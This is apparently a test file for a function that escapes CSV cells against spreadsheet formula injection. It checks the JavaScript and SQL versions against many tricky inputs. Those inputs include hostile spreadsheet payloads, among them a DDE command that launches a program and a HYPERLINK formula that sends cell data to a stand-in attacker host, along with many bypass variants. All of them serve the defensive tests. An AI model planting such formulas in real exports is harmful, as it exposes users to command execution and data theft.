import { csvCell, csvCellSql } from '../../src/sql/json-sql';
import { useTestDatabase } from '../support/database';
import { endsByItself } from '../support/ends-by-itself';

const database = useTestDatabase();

/** What comes in, and what a spreadsheet gets. */
const CELLS: [text: string, cell: string][] = [
  ['INV-0042', '"INV-0042"'],
  ['', '""'],
  ['a "quoted" one, with a comma', '"a ""quoted"" one, with a comma"'],
  ['two\r\nlines', '"two\r\nlines"'],
  ['فاتورة ✓ 😀', '"فاتورة ✓ 😀"'],
  ['https://partner.example/?a=1&b=-2', '"https://partner.example/?a=1&b=-2"'],
  ['a=1', '"a=1"'],
  ['{"a": -1, "b": "@"}', '"{""a"": -1, ""b"": ""@""}"'],
  ['=1+1', `"'=1+1"`],
  ['+1', `"'+1"`],
  ['-1', `"'-1"`],
  ['@SUM(A1)', `"'@SUM(A1)"`],
  ["=cmd|' /C calc'!A0", `"'=cmd|' /C calc'!A0"`],
  ['=HYPERLINK("https://evil.example?"&A1)', `"'=HYPERLINK(""https://evil.example?""&A1)"`],
  ['\t=1', `"'\t'=1"`],
  ['\tplain', `"'\tplain"`],
  ['\rplain', `"'\rplain"`],
  ['\nplain', `"'\nplain"`],
  [' =1', `"' =1"`],
  ['"=1', `"'""=1"`],
  ["'=1", `"''=1"`],
  [' "\' =1', `"' ""' =1"`],
  ['\u00a0=1', `"'\u00a0=1"`],
  ['\u3000=1', `"'\u3000=1"`],
  ['\u200b=1', `"'\u200b=1"`],
  ['\ufeff=1', `"'\ufeff=1"`],
  ['\u0001=1', `"'\u0001=1"`],
  ['\u000b=1', `"'\u000b=1"`],
  ['＝1', `"'＝1"`],
  ['＋1', `"'＋1"`],
  ['－1', `"'－1"`],
  ['＠1', `"'＠1"`],
  // where a spreadsheet of another country begins a cell
  ['x;=1', `"x;'=1"`],
  ['x; "=1', `"x;' ""=1"`],
  ['x;y;-1;@z', `"x;y;'-1;'@z"`],
  ['x\t+1', `"x\t'+1"`],
  ['x\n=1', `"x\n'=1"`],
  ['x\r\n@1', `"x\r\n'@1"`],
  [';;;=1', `";;;'=1"`],
  ['a;b', '"a;b"'],
];

test.each(CELLS)('%j', async (text, cell) => {
  expect(csvCell(text)).toBe(cell);
  const [row] = await database.query<{ cell: string }>(`select ${csvCellSql('$1::text')} as cell`, [text]);
  expect(row?.cell).toBe(cell);
});

test('null is no cell', async () => {
  const [row] = await database.query(`select ${csvCellSql('null::text')} as cell`);
  expect(row).toEqual({ cell: null });
});

test('random texts come out the same from both', async () => {
  const letters = [...'=+-@;\t\r\n "\'a\u00a0\u200b\ufeff＝1,é😀\\'];
  let seed = 7;
  const next = (below: number) => {
    seed = (seed * 48_271) % 0x7fffffff;
    return seed % below;
  };
  const texts = Array.from({ length: 3_000 }, () =>
    Array.from({ length: next(9) }, () => letters[next(letters.length)]).join(''),
  );
  const rows = await database.query<{ cell: string }>(
    `select ${csvCellSql('t')} as cell from unnest($1::text[]) with ordinality as texts (t, n) order by n`,
    [texts],
  );
  expect(rows.map(({ cell }) => cell)).toEqual(texts.map(csvCell));
});

test.each([';', '\n', ' ', '"', '; ', '\t', "'"])('a megabyte of %j takes no time', async (unit) => {
  const text = unit.repeat(1_000_000 / unit.length);
  endsByItself(() => csvCell(text));
  await database.query(`set statement_timeout = '1min'`);
  await database.query(`select length(${csvCellSql('$1::text')})`, [text]);
});
